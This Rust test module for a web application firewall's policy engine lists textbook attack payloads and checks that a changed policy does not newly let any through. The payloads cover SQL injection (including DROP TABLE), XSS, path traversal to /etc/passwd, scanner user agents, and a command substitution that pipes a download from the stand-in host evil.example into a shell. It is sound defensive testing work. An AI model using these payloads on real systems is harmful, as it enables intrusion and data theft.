//! Attacks that every inspecting policy refuses, by category: what a fix must not let through, and what an exclusion is
//! weighed against. Textbook payloads; the corpora of the OWASP rules are the real measure of an engine.

use std::sync::Arc;

use portcullis_config::Timestamp;
use portcullis_policy::Policy;

use super::{Ask, Body, Trial};

/// One attack.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// The category, in Cloud Armor's word.
    pub category: &'static str,
    /// What it is.
    pub name: &'static str,
    /// The value of a parameter or header that carries it.
    pub payload: &'static str,
}

/// Categories that there are attacks of.
pub const CATEGORIES: &[&str] = &["sqli", "xss", "lfi", "rce", "scannerdetection"];

/// The attacks.
pub const ATTACKS: &[Attack] = &[
    attack("sqli", "union", "1' UNION SELECT username, password FROM users--"),
    attack("sqli", "tautology", "1' OR '1'='1' -- "),
    attack("sqli", "stacked", "1; DROP TABLE users--"),
    attack("sqli", "time", "1' AND SLEEP(5)-- "),
    attack("sqli", "schema", "1 UNION ALL SELECT table_name FROM information_schema.tables"),
    attack("xss", "script", "<script>alert(document.cookie)</script>"),
    attack("xss", "image", "<img src=x onerror=alert(1)>"),
    attack("xss", "svg", "<svg/onload=alert(1)>"),
    attack("xss", "link", "<a href=\"javascript:alert(1)\">x</a>"),
    attack("lfi", "passwd", "../../../../etc/passwd"),
    attack("lfi", "windows", "..\\..\\..\\windows\\win.ini"),
    attack("lfi", "proc", "../../../../proc/self/environ"),
    attack("rce", "pipe", "; cat /etc/passwd"),
    attack("rce", "substitution", "$(curl http://evil.example/x | sh)"),
    attack("rce", "backticks", "`id; uname -a`"),
    attack("scannerdetection", "sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    attack(
        "scannerdetection",
        "nikto",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    ),
];

const fn attack(category: &'static str, name: &'static str, payload: &'static str) -> Attack {
    Attack { category, name, payload }
}

/// Returns the attacks of a category.
pub fn of(category: &str) -> impl Iterator<Item = &'static Attack> {
    ATTACKS.iter().filter(move |attack| attack.category == category)
}

/// Returns the attacks that the first policy refuses and the second lets pass, in any of the requests that carry them.
pub fn newly_passing(
    before: &Arc<Policy>,
    after: &Arc<Policy>,
    carried: impl Fn(&Attack) -> Vec<Ask>,
) -> Vec<&'static Attack> {
    let passes = |policy: &Arc<Policy>, ask: &Ask| {
        let trial = Trial::small_of_policy(policy);
        trial.judge(ask, Timestamp::from_secs(0)).answer.passes() == Some(true)
    };
    let newly = |ask: &Ask| !passes(before, ask) && passes(after, ask);
    ATTACKS.iter().filter(|attack| carried(attack).iter().any(newly)).collect()
}

impl Attack {
    /// Makes the request: a scanner shows itself in `User-Agent`, everything else stands in a query parameter.
    #[must_use]
    pub fn ask(&self, host: &str) -> Ask {
        if self.category == "scannerdetection" {
            return with_headers(Ask::get(b"/"), host, self.payload);
        }
        self.in_parameter(host, b"/", "id")
    }

    /// Makes the request with the payload as the value of a query parameter.
    #[must_use]
    pub fn in_parameter(&self, host: &str, path: &[u8], name: &str) -> Ask {
        let mut target = path.to_vec();
        target.push(b'?');
        target.extend(encoded(name.as_bytes()).bytes());
        target.push(b'=');
        target.extend(encoded(self.payload.as_bytes()).bytes());
        with_headers(Ask::get(&target), host, BROWSER)
    }

    /// Makes the request with the payload as the value of a header.
    #[must_use]
    pub fn in_header(&self, host: &str, path: &[u8], name: &[u8]) -> Ask {
        let mut ask = with_headers(Ask::get(path), host, BROWSER);
        ask.headers.retain(|(known, _)| !known.eq_ignore_ascii_case(name));
        ask.headers.push((name.to_vec(), self.payload.as_bytes().to_vec()));
        ask
    }

    /// Makes the request with the payload as the value of a cookie.
    #[must_use]
    pub fn in_cookie(&self, host: &str, path: &[u8], name: &str) -> Ask {
        let value = format!("{name}={}", encoded(self.payload.as_bytes()));
        let mut ask = with_headers(Ask::get(path), host, BROWSER);
        ask.headers.push((b"cookie".to_vec(), value.into_bytes()));
        ask
    }
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0";

fn with_headers(mut ask: Ask, host: &str, agent: &str) -> Ask {
    for (name, value) in [("host", host), ("user-agent", agent), ("accept", "*/*")] {
        ask.headers.push((name.as_bytes().to_vec(), value.as_bytes().to_vec()));
    }
    ask.body = Body::Whole(Vec::new());
    ask
}

/// Percent-encodes everything but letters and digits.
fn encoded(bytes: &[u8]) -> String {
    use std::fmt::Write as _;
    bytes.iter().fold(String::new(), |mut text, byte| {
        if byte.is_ascii_alphanumeric() {
            text.push(char::from(*byte));
        } else {
            write!(text, "%{byte:02X}").expect("a string takes all text");
        }
        text
    })
}
